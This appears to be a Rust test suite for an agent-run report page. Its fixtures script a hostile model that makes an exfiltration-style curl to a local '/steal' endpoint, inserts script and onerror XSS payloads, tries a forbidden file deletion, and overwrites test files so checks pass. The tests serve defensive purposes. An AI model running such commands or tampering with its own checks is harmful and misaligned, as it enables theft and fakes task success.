//! `report.html` opened in a real headless Chromium (tests/support/browser.rs) and read as a
//! person reads it: every task with its status, a failed check's output, a diff, a transcript
//! with a refused call and a refused connection; what the model wrote stays text (a `<script>`
//! and an `onerror` in its answer, its tool output and the check's output never run); the page
//! requests nothing but itself; a merged report of two shards; the history of three nights where
//! one task flips; the keyboard alone gets around.
//!
//! With `DRACODE_REPORT_SHOTS=DIR` the tests also save the screenshots docs/src/report.md shows.

use crate::support::browser::{Browser, Page, Shot, WAIT, file_url};
use crate::support::cli::{dracode, finished, git, git_repo, read_jsonl};
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What the model writes, to be shown and never run: each would set `window.__pwned`.
const HOSTILE: &str = "<script>window.__pwned = 1</script><img src=x onerror=\"window.__pwned = 2\">";

/// A key in dracode's environment that the model repeats: masked in the page as everywhere.
const SECRET: &str = "sk-ant-report-page-0123456789abcdef";

/// The check of the `calc` project: `add 2 3` must print 5.
const TEST_SH: &str = "out=$(sh calc.sh 2 3)\nif [ \"$out\" = 5 ]; then echo ok; else echo \"<b>FAIL</b> <script>window.__pwned = 4</script> got $out\"; exit 1; fi\n";

/// A recording (`replay`) whose model makes `calls` (id, tool, input) in one turn, then answers
/// `answer` after thinking `thought`.
fn recording(calls: &[(&str, &str, Value)], thought: &str, answer: &str) -> Value {
    let uses: Vec<Value> =
        calls.iter().map(|(id, name, input)| json!({"type": "tool_use", "id": id, "name": name, "input": input})).collect();
    let usage = json!({"input_tokens": 1200, "cached_input_tokens": 0, "cache_creation_input_tokens": 0, "output_tokens": 80,
        "reasoning_output_tokens": 20, "total_tokens": 1280, "requests": 1});
    json!({"provider": "openai", "model": "replay", "responses": [
        {"content": uses, "stop_reason": "tool_use", "usage": usage},
        {"content": [{"type": "reasoning", "text": thought}, {"type": "text", "text": answer}], "stop_reason": "end_turn", "usage": usage}
    ]})
}

/// A 127.0.0.1 listener that records whatever reaches it (nothing should).
fn listener() -> (u16, Arc<Mutex<Vec<String>>>) {
    let socket = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    std::thread::spawn(move || {
        for mut stream in socket.incoming().flatten() {
            let mut buf = [0u8; 512];
            let n = stream.read(&mut buf).unwrap_or(0);
            record.lock().unwrap().push(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, seen)
}

/// A batch of three on the `calc` project in `dir`: `fix-add` fixes it (passes), `hostile` writes
/// markup everywhere, has a call refused and a connection refused, and fails its check; `docs`
/// adds a file (tag `docs`). Returns the output folder, after asserting the run's statuses.
fn mixed_batch(dir: &Path, unlisted: u16) -> PathBuf {
    git_repo(&dir.join("calc"), &[("calc.sh", "echo $(($1 - $2))\n"), ("test.sh", TEST_SH)]);
    let replay = dir.join("replay");
    std::fs::create_dir_all(&replay).unwrap();
    let fix = recording(
        &[("w1", "write_file", json!({"file_path": "calc.sh", "content": "echo $(($1 + $2))\n"}))],
        "Minus should be plus.",
        "Fixed `calc.sh`: it subtracted.",
    );
    let curl = format!("curl -s -m 5 http://127.0.0.1:{unlisted}/steal; echo '{HOSTILE}'");
    let hostile = recording(
        &[
            ("h1", "run_command", json!({"command": curl, "shell": true, "timeout_seconds": 20})),
            ("h2", "delete_file", json!({"file_path": "test.sh"})),
            ("h3", "write_file", json!({"file_path": "notes.md", "content": HOSTILE})),
        ],
        HOSTILE,
        &format!("All done. {HOSTILE} key={SECRET}"),
    );
    let docs = recording(
        &[("d1", "write_file", json!({"file_path": "README.md", "content": "# calc\n\nAdds two numbers.\n"}))],
        "A short README.",
        "Added README.md.",
    );
    for (id, rec) in [("fix-add", fix), ("hostile", hostile), ("docs", docs)] {
        std::fs::write(replay.join(format!("{id}.json")), rec.to_string()).unwrap();
    }
    let manifest = format!(
        "[setup]\ncommand = \"mkdir -p .deps && echo ready > .deps/ok\"\n\n\
         [defaults]\nprovider = \"replay\"\nreplay = \"replay\"\nrepo = \"calc\"\nisolation = \"worktree\"\n\
         network = [\"127.0.0.1:{}\"]\n\n\
         [[tasks]]\nid = \"fix-add\"\nprompt = \"calc.sh 2 3 must print 5\"\ncheck = \"sh test.sh\"\ntags = [\"bugfix\"]\n\n\
         [[tasks]]\nid = \"hostile\"\nprompt = \"fix calc\"\ncheck = \"sh test.sh\"\ntags = [\"bugfix\", \"untrusted\"]\n\
         tools = [\"read_file\", \"write_file\", \"run_command\", \"delete_file\"]\n\
         [tasks.policy]\ndelete_file = {{ allow = false }}\n\n\
         [[tasks]]\nid = \"docs\"\nprompt = \"add a README\"\ntags = [\"docs\"]\n",
        unlisted.wrapping_add(1)
    );
    std::fs::write(dir.join("nightly.toml"), manifest).unwrap();
    let out = dir.join("out");
    let run =
        dracode(dir).env("ANTHROPIC_API_KEY", SECRET).args(["run", "nightly.toml", "--jobs", "2", "--out"]).arg(&out).output().unwrap();
    let all = read_jsonl(&out.join("results.jsonl"));
    let statuses: Vec<&str> = ["fix-add", "hostile", "docs"].iter().map(|id| finished(&all, id)["status"].as_str().unwrap_or("")).collect();
    assert_eq!(statuses, ["passed", "failed", "passed"], "{}", String::from_utf8_lossy(&run.stderr));
    assert_eq!(finished(&all, "hostile")["denied_calls"], 1);
    assert_eq!(finished(&all, "hostile")["network_denied"], 1, "{}", finished(&all, "hostile"));
    out
}

/// True once the overview is on screen again (after a task view).
const OVERVIEW_SHOWN: &str = "document.querySelector('#task-table')?.getBoundingClientRect().height > 0";

/// Opens `report` (with `hash`) in a laptop-sized tab and waits for the first render.
fn open<'b>(browser: &'b Browser, report: &Path, hash: &str) -> Page<'b> {
    let page = browser.new_page();
    page.viewport(1366, 768);
    page.goto(&format!("{}{hash}", file_url(report)));
    page.wait_for("document.documentElement.dataset.ready === '1'", WAIT);
    page
}

/// The rows of the task table: (task id, status) in table order.
fn rows(page: &Page<'_>) -> Vec<(String, String)> {
    let rows = page.eval(
        "[...document.querySelectorAll('#task-table tbody tr[data-task-id]')].filter(r => r.offsetParent !== null).map(r => [r.dataset.taskId, r.dataset.status])",
    );
    serde_json::from_value(rows).unwrap()
}

/// What `selector` shows inside the open task view, every match joined.
fn shown(page: &Page<'_>, selector: &str) -> String {
    let js = format!("[...document.querySelectorAll('#task-view {selector}')].map(e => e.textContent).join('\\n')");
    page.eval(&js).as_str().unwrap_or_default().to_string()
}

/// Saves a screenshot (of the viewport, or of one element) for docs/src/report.md when
/// `DRACODE_REPORT_SHOTS` names a folder.
fn shot(page: &Page<'_>, name: &str, what: Shot<'_>) {
    if let Some(dir) = std::env::var_os("DRACODE_REPORT_SHOTS") {
        page.screenshot(&Path::new(&dir).join(name), what);
    }
}

/// That nothing the model wrote ran, and the page asked for nothing but itself.
fn assert_inert(page: &Page<'_>, report: &Path) {
    assert_eq!(page.eval("typeof window.__pwned"), "undefined", "markup from the model ran");
    assert_eq!(
        page.eval("document.querySelectorAll('body script:not([type=\"application/json\"]), body img, body iframe').length"),
        json!(1),
        "one script: the page's own"
    );
    let requests: Vec<String> = page.requests().into_iter().map(|u| u.split('#').next().unwrap_or_default().to_string()).collect();
    assert_eq!(requests, [file_url(report)], "the page loaded nothing but itself");
    let console = page.console();
    assert!(
        !console.iter().any(|m| m.contains("Content Security Policy") || m.starts_with("exception") || m.contains("error")),
        "{console:#?}"
    );
}

#[test]
fn report_page_shows_every_task_a_failed_check_a_diff_and_a_transcript_and_runs_nothing_of_the_model() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let (unlisted, seen) = listener();
    let out = mixed_batch(tmp.path(), unlisted);
    assert!(seen.lock().unwrap().is_empty(), "the refused connection reached the listener");
    let report = out.join("report.html");

    let page = open(browser, &report, "");
    assert_eq!(rows(&page), [("fix-add".into(), "passed".into()), ("hostile".into(), "failed".into()), ("docs".into(), "passed".into())]);
    let count = |group: &str| page.text(&format!("#counts [data-count={group}] .count-value"));
    assert_eq!((count("total"), count("passed"), count("failed"), count("not_judged")), ("3".into(), "2".into(), "1".into(), "0".into()));
    assert!(page.text("#task-table tr[data-task-id=hostile] .col-reason").contains("exited with 1"), "{}", page.text("#task-table"));
    assert_eq!(page.eval("document.querySelectorAll('#timeline g.lane[data-task-id]').length"), json!(3), "one bar per attempt");
    assert!(
        page.eval("document.querySelectorAll('#timeline g.lane[data-task-id=hostile] rect.ph[data-phase=check]').length").as_u64()
            >= Some(1)
    );
    assert_eq!(page.eval("document.querySelectorAll('#timeline g.lane.setup').length"), json!(1), "the setup's bar");
    shot(&page, "report-overview.png", Shot::Viewport);

    page.click("#task-table tr[data-task-id=hostile] a");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'hostile'", WAIT);
    assert!(page.eval("location.hash").as_str().is_some_and(|h| h == "#hostile"));
    assert!(
        shown(&page, ".check-output").contains("<b>FAIL</b> <script>window.__pwned = 4</script> got -1"),
        "{}",
        shown(&page, ".check-output")
    );
    let transcript = shown(&page, ".msg-assistant");
    assert!(transcript.contains(&format!("All done. {HOSTILE} key=[REDACTED]")), "the answer as text, masked: {transcript}");
    let html = std::fs::read_to_string(&report).unwrap();
    assert!(!html.contains(SECRET) && !html.contains("sk-ant-report-page"), "the key reached report.html");
    assert!(shown(&page, ".reasoning").contains(HOSTILE), "{}", shown(&page, ".reasoning"));
    assert!(shown(&page, ".tool-call[data-call-id=h2].refused").contains("delete_file"), "the refused call is marked");
    assert!(shown(&page, ".tool-result").contains(HOSTILE), "the tool's output as text");
    assert!(shown(&page, "#network-denied").contains(&format!("127.0.0.1:{unlisted}")), "{}", shown(&page, "#network-denied"));
    assert!(shown(&page, ".diff-add").contains(HOSTILE), "the diff's added line, as text");
    shot(&page, "report-failed-task.png", Shot::Viewport);
    assert_inert(&page, &report);

    page.press_key("Escape");
    page.wait_for(OVERVIEW_SHOWN, WAIT);
    assert!(page.text("#task-table").contains("fix-add"), "back on the overview");
}

#[test]
fn report_page_links_straight_to_a_task_and_shows_its_diff() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let (unlisted, _) = listener();
    let report = mixed_batch(tmp.path(), unlisted).join("report.html");
    let page = open(browser, &report, "#fix-add");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'fix-add'", WAIT);
    assert_eq!(page.text("#task-view .status-badge"), "passed");
    assert_eq!(page.eval("[...document.querySelectorAll('#task-view .diff-file')].map(f => f.dataset.file)"), json!(["calc.sh"]));
    assert_eq!(shown(&page, ".diff-del").trim_end(), "-echo $(($1 - $2))");
    assert_eq!(shown(&page, ".diff-add").trim_end(), "+echo $(($1 + $2))");
    assert!(shown(&page, ".check-output").contains("ok"));
    let answer = shown(&page, ".msg-assistant");
    assert!(answer.contains("Fixed `calc.sh`: it subtracted."), "{answer}");
    assert_inert(&page, &report);

    // `dracode combine` writes its report into the folder and the page again, with it.
    let dir = report.parent().unwrap().parent().unwrap();
    let combine = dracode(dir).args(["combine", "out", "--repo", "calc"]).output().unwrap();
    assert_eq!(combine.status.code(), Some(0), "{}", String::from_utf8_lossy(&combine.stderr));
    let page = open(browser, &report, "");
    let combined = page.text("#combine");
    assert!(combined.contains("fix-add") && combined.contains("docs"), "the combine report names the applied tasks: {combined}");
}

#[test]
fn report_page_is_usable_from_the_keyboard_and_in_the_dark() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let (unlisted, _) = listener();
    let report = mixed_batch(tmp.path(), unlisted).join("report.html");
    let page = browser.new_page();
    page.viewport(1366, 768);
    page.color_scheme("dark");
    page.goto(&file_url(&report));
    page.wait_for("document.documentElement.dataset.ready === '1'", WAIT);
    let background = page.eval("getComputedStyle(document.body).backgroundColor").as_str().unwrap_or_default().to_string();
    let text = page.eval("getComputedStyle(document.body).color").as_str().unwrap_or_default().to_string();
    assert!(luminance(&background) < 0.2 && luminance(&text) > 0.6, "dark: text {text} on {background}");

    // Tab until the link of `docs` has the focus, then Enter opens it.
    let focused = || page.eval("document.activeElement?.closest('tr')?.dataset.taskId ?? ''");
    let mut presses = 0;
    while focused() != "docs" {
        page.press_key("Tab");
        presses += 1;
        assert!(presses < 200, "Tab never reached the task docs");
    }
    page.press_key("Enter");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'docs'", WAIT);
    page.press_key("Escape");
    page.wait_for(OVERVIEW_SHOWN, WAIT);

    // Sorting by a column header and filtering by tag are buttons and selects.
    page.click("#task-table th button[data-sort=id]");
    assert_eq!(rows(&page).iter().map(|r| r.0.as_str()).collect::<Vec<_>>(), ["docs", "fix-add", "hostile"]);
    page.eval("const s = document.querySelector('#filter-tag'); s.value = 'docs'; s.dispatchEvent(new Event('change', {bubbles: true}))");
    assert_eq!(rows(&page).iter().map(|r| r.0.as_str()).collect::<Vec<_>>(), ["docs"], "only the task tagged docs is shown");
}

/// The relative luminance (0 black … 1 white) of a CSS `rgb(r, g, b)` colour.
fn luminance(css: &str) -> f64 {
    let channels: Vec<f64> = css
        .trim_start_matches("rgba(")
        .trim_start_matches("rgb(")
        .trim_end_matches(')')
        .split(',')
        .filter_map(|c| c.trim().parse().ok())
        .collect();
    match channels.as_slice() {
        [r, g, b, ..] => (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255.0,
        _ => panic!("not an rgb colour: {css}"),
    }
}

#[test]
fn report_page_of_a_merge_shows_both_shards_tasks() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    let root = crate::support::cli::crate_root();
    assert!(std::process::Command::new("cp").arg("-R").arg(root.join("examples/quickstart")).arg(dir).status().unwrap().success());
    std::fs::copy(root.join("examples/quickstart.toml"), dir.join("quickstart.toml")).unwrap();
    for k in 1..=2 {
        let out =
            dracode(dir).args(["run", "quickstart.toml", "--shard", &format!("{k}/2"), "--out", &format!("out-{k}")]).output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let merged = dracode(dir).args(["merge", "out-1", "out-2", "--out", "merged"]).output().unwrap();
    assert_eq!(merged.status.code(), Some(0), "{}", String::from_utf8_lossy(&merged.stderr));
    let report = dir.join("merged/report.html");
    let page = open(browser, &report, "");
    let mut ids: Vec<String> = rows(&page).into_iter().map(|(id, _)| id).collect();
    ids.sort();
    assert_eq!(ids, ["add-readme", "fix-greeting"]);
    assert_eq!(page.eval("document.querySelectorAll('#shards li[data-shard]').length"), json!(2), "{}", page.text("#overview"));
    assert!(page.text("#shards").contains("1/2") && page.text("#shards").contains("2/2"), "{}", page.text("#shards"));
    assert_inert(&page, &report);
}

#[test]
fn report_page_history_shows_the_task_that_flipped_over_three_nights() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    git_repo(&dir.join("calc"), &[("calc.sh", "echo $(($1 + $2))\n"), ("test.sh", TEST_SH), ("docs.txt", "calc\n")]);
    let replay = dir.join("replay");
    std::fs::create_dir_all(&replay).unwrap();
    let touch = |file: &str| recording(&[("t1", "write_file", json!({"file_path": file, "content": "touched\n"}))], "", "Done.");
    std::fs::write(replay.join("steady.json"), touch("notes.md").to_string()).unwrap();
    std::fs::write(replay.join("flaky-calc.json"), touch("log.md").to_string()).unwrap();
    let manifest = "[defaults]\nprovider = \"replay\"\nreplay = \"replay\"\nrepo = \"calc\"\nisolation = \"worktree\"\n\n\
        [[tasks]]\nid = \"steady\"\nprompt = \"note\"\n\n[[tasks]]\nid = \"flaky-calc\"\nprompt = \"log\"\ncheck = \"sh test.sh\"\n";
    std::fs::write(dir.join("nightly.toml"), manifest).unwrap();
    // Night 2 breaks calc.sh upstream; night 3 mends it: the check of flaky-calc fails on night 2 only.
    let nights = ["echo $(($1 + $2))\n", "echo $(($1 * $2))\n", "echo $(($1 + $2))\n"];
    for (n, calc) in nights.iter().enumerate() {
        std::fs::write(dir.join("calc/calc.sh"), calc).unwrap();
        git(&dir.join("calc"), &["commit", "-q", "-am", &format!("night {n}"), "--allow-empty"]);
        let out = dracode(dir).args(["run", "nightly.toml", "--cache", "cache", "--out", &format!("night-{n}")]).output().unwrap();
        let want = if n == 1 { Some(1) } else { Some(0) };
        assert_eq!(out.status.code(), want, "night {n}: {}", String::from_utf8_lossy(&out.stderr));
        std::thread::sleep(Duration::from_millis(20));
    }
    let report = dir.join("night-2/report.html");
    let page = open(browser, &report, "");
    assert_eq!(dots(&page, "flaky-calc"), json!(["passed", "failed", "passed"]), "two nights before, then tonight");
    assert_eq!(dots(&page, "steady"), json!(["passed", "passed", "passed"]));
    assert_eq!(
        page.eval("[...document.querySelectorAll('#task-table tr .flip')].map(f => f.closest('tr').dataset.taskId)"),
        json!(["flaky-calc"])
    );
    assert!(page.eval("document.querySelectorAll('#history-trend svg.trend').length").as_u64() >= Some(1), "the trend is drawn");
    shot(&page, "report-history.png", Shot::Element("#task-table"));
    assert_inert(&page, &report);

    // The same history from the earlier output folders, given by hand.
    std::fs::remove_dir_all(dir.join("cache")).unwrap();
    let again = dracode(dir).args(["report", "night-2", "--history", "night-0", "--history", "night-1"]).output().unwrap();
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    let page = open(browser, &report, "");
    assert_eq!(dots(&page, "flaky-calc"), json!(["passed", "failed", "passed"]));
}

/// The history squares of task `id`'s row: each earlier night's group, then tonight's.
fn dots(page: &Page<'_>, id: &str) -> Value {
    page.eval(&format!("[...document.querySelectorAll('#task-table tr[data-task-id=\"{id}\"] .hist-dot')].map(d => d.dataset.group)"))
}

#[test]
fn report_page_shows_a_repeated_tasks_attempts_and_the_protected_paths_put_back() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    git_repo(&dir.join("calc"), &[("calc.sh", "echo $(($1 - $2))\n"), ("test.sh", TEST_SH)]);
    let replay = dir.join("replay");
    std::fs::create_dir_all(&replay).unwrap();
    let fix = recording(&[("w1", "write_file", json!({"file_path": "calc.sh", "content": "echo $(($1 + $2))\n"}))], "", "Fixed.");
    std::fs::write(replay.join("twice.json"), fix.to_string()).unwrap();
    let line = "echo ok > test.sh";
    let tamper =
        recording(&[("t1", "run_command", json!({"command": line, "shell": true, "timeout_seconds": 20}))], "", "Made the test pass.");
    std::fs::write(replay.join("tamper.json"), tamper.to_string()).unwrap();
    let manifest = "[defaults]\nprovider = \"replay\"\nreplay = \"replay\"\nrepo = \"calc\"\nisolation = \"worktree\"\ncheck = \"sh test.sh\"\n\n\
        [[tasks]]\nid = \"twice\"\nprompt = \"fix calc\"\nrepeat = 2\n\n\
        [[tasks]]\nid = \"tamper\"\nprompt = \"fix calc\"\nprotect = [\"test.sh\"]\n";
    std::fs::write(dir.join("tasks.toml"), manifest).unwrap();
    let run = dracode(dir).args(["run", "tasks.toml", "--out", "out"]).output().unwrap();
    let all = read_jsonl(&dir.join("out/results.jsonl"));
    assert_eq!(finished(&all, "twice")["verdict"], "stable_pass", "{}", String::from_utf8_lossy(&run.stderr));
    assert_eq!(finished(&all, "tamper")["protected"], json!(["test.sh"]));
    let report = dir.join("out/report.html");

    let page = open(browser, &report, "#twice");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'twice'", WAIT);
    assert_eq!(
        page.eval("document.querySelectorAll('#task-view #repeats tr[data-repeat]').length"),
        json!(2),
        "{}",
        page.text("#task-view")
    );
    assert!(page.text("#task-view").contains("stable_pass"), "the verdict: {}", page.text("#task-view"));
    page.press_key("Escape");
    page.wait_for(OVERVIEW_SHOWN, WAIT);
    page.click("#task-table tr[data-task-id=tamper] a");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'tamper'", WAIT);
    assert_eq!(shown(&page, "#protected li"), "test.sh");
    assert!(
        shown(&page, ".task-reason").contains("protected") || shown(&page, ".task-error").contains("test.sh"),
        "{}",
        page.text("#task-view")
    );
    assert_inert(&page, &report);
}

/// A check that warns in colour, as compilers and test runners do on a terminal, then passes
/// when `add 2 3` prints 5.
const COLOUR_CHECK_SH: &str = "printf '\\033[33mwarning\\033[39;49;00m: unused variable\\n'\nout=$(sh calc.sh 2 3)\n[ \"$out\" = 5 ] && printf '\\033[1;32mok\\033[0m\\n'\n";

#[test]
fn report_page_draws_terminal_colours_puts_the_patch_first_and_counts_refused_protected_writes() {
    let Some(browser) = Browser::shared() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path();
    git_repo(&dir.join("calc"), &[("calc.sh", "echo $(($1 - $2))\n"), ("check.sh", COLOUR_CHECK_SH)]);
    let replay = dir.join("replay");
    std::fs::create_dir_all(&replay).unwrap();
    let colour = recording(
        &[
            ("w1", "write_file", json!({"file_path": "calc.sh", "content": "echo $(($1 + $2))\n"})),
            ("w2", "write_file", json!({"file_path": "check.sh", "content": "exit 0\n"})),
            ("r1", "run_command", json!({"command": "printf '\\033[1;31mred alert\\033[0m\\n'", "shell": true, "timeout_seconds": 20})),
        ],
        "",
        "Fixed \u{1b}[32mcalc.sh\u{1b}[0m: it subtracted.",
    );
    std::fs::write(replay.join("colour.json"), colour.to_string()).unwrap();
    let manifest = "[defaults]\nprovider = \"replay\"\nreplay = \"replay\"\nrepo = \"calc\"\nisolation = \"worktree\"\n\n\
        [[tasks]]\nid = \"colour\"\nprompt = \"fix calc\"\ncheck = \"sh check.sh\"\nprotect = [\"check.sh\"]\n\
        tools = [\"write_file\", \"run_command\"]\n";
    std::fs::write(dir.join("tasks.toml"), manifest).unwrap();
    // Two nights through one cache folder: the second night's page has the first as history.
    for night in ["night-1", "night-2"] {
        std::thread::sleep(Duration::from_millis(20));
        let run = dracode(dir).args(["run", "tasks.toml", "--cache", "cache", "--no-cache", "--out", night]).output().unwrap();
        let all = read_jsonl(&dir.join(night).join("results.jsonl"));
        assert_eq!(finished(&all, "colour")["status"], "passed", "{}", String::from_utf8_lossy(&run.stderr));
        assert_eq!(finished(&all, "colour")["protected_refused"], json!(["check.sh"]));
    }
    let summary = std::fs::read_to_string(dir.join("night-2/summary.md")).unwrap();
    assert!(summary.contains("### Protected paths") && summary.contains("| colour | 1: check.sh | — |"), "{summary}");
    let report = dir.join("night-2/report.html");

    let page = open(browser, &report, "#colour");
    page.wait_for("document.querySelector('#task-view')?.dataset.taskId === 'colour'", WAIT);
    // The check's warning is drawn in colour, not as escape codes.
    let warning = page.eval(
        "(() => { const out = document.querySelector('#task-view .check-output[data-phase=after]');
                  const s = [...out.querySelectorAll('span.ansi')].find(e => e.textContent === 'warning');
                  return s ? [s.className, getComputedStyle(s).color, getComputedStyle(out).color] : null; })()",
    );
    let [class, colour, plain] = [0, 1, 2].map(|n| warning[n].as_str().unwrap_or_default().to_string());
    assert!(class.contains("ansi-fg-3"), "the warning is yellow: {warning}");
    assert_ne!(colour, plain, "coloured unlike the rest of the output: {warning}");
    let rgb: Vec<f64> = colour.trim_start_matches("rgb(").trim_end_matches(')').split(',').filter_map(|c| c.trim().parse().ok()).collect();
    assert!(rgb.len() == 3 && rgb[0] > rgb[2] + 60.0 && rgb[1] > rgb[2] + 40.0, "a yellow: {colour}");
    let bold = page.eval(
        "[...document.querySelectorAll('#task-view .check-output[data-phase=after] span.ansi-bold')].map(s => [s.textContent, getComputedStyle(s).fontWeight])",
    );
    assert_eq!(bold, json!([["ok", "700"]]), "bold green ok");
    let text = page.eval("document.body.innerText").as_str().unwrap_or_default().to_string();
    // (The command of the tool call itself shows `\033[1;31m` as written: it holds no escape byte.)
    for residue in ["\u{1b}", "[33m", "[39;49;00m", "[1;32m", "[32m"] {
        assert!(!text.contains(residue), "{residue:?} is visible on the page");
    }
    assert!(text.contains("warning: unused variable") && text.contains("red alert") && text.contains("Fixed calc.sh: it subtracted."));
    assert!(shown(&page, ".tool-result span.ansi-fg-1").contains("red alert"), "the tool's output in colour");
    assert!(shown(&page, ".msg-assistant span.ansi-fg-2").contains("calc.sh"), "the agent's message in colour");

    // The patch comes first: above the check's output.
    let top = |selector: &str| page.eval(&format!("document.querySelector('#task-view {selector}').getBoundingClientRect().top")).as_f64();
    let (patch, check) = (top(".diff-file[data-file=\"calc.sh\"]"), top(".check-output[data-phase=after]"));
    assert!(patch.zip(check).is_some_and(|(p, c)| p < c), "patch at {patch:?}, check output at {check:?}");
    assert_eq!(shown(&page, "#protected-refused li"), "check.sh");
    assert!(shown(&page, "h1 .tag").contains("1 protected refused"), "{}", shown(&page, "h1"));
    shot(&page, "report-task-colours.png", Shot::Element("#task-view #check"));
    assert_inert(&page, &report);

    // Across runs: each night's refused protected writes are counted.
    page.press_key("Escape");
    page.wait_for(OVERVIEW_SHOWN, WAIT);
    let refused = page.eval("[...document.querySelectorAll('#history-trend li[data-run] .refused-count')].map(e => e.dataset.refused)");
    assert_eq!(refused, json!(["1", "1"]), "{}", page.text("#history-trend"));
    let dots = page.eval("[...document.querySelectorAll('#task-table tr[data-task-id=colour] .hist-dot')].map(d => d.dataset.refused)");
    assert_eq!(dots, json!(["1", "1"]));
}
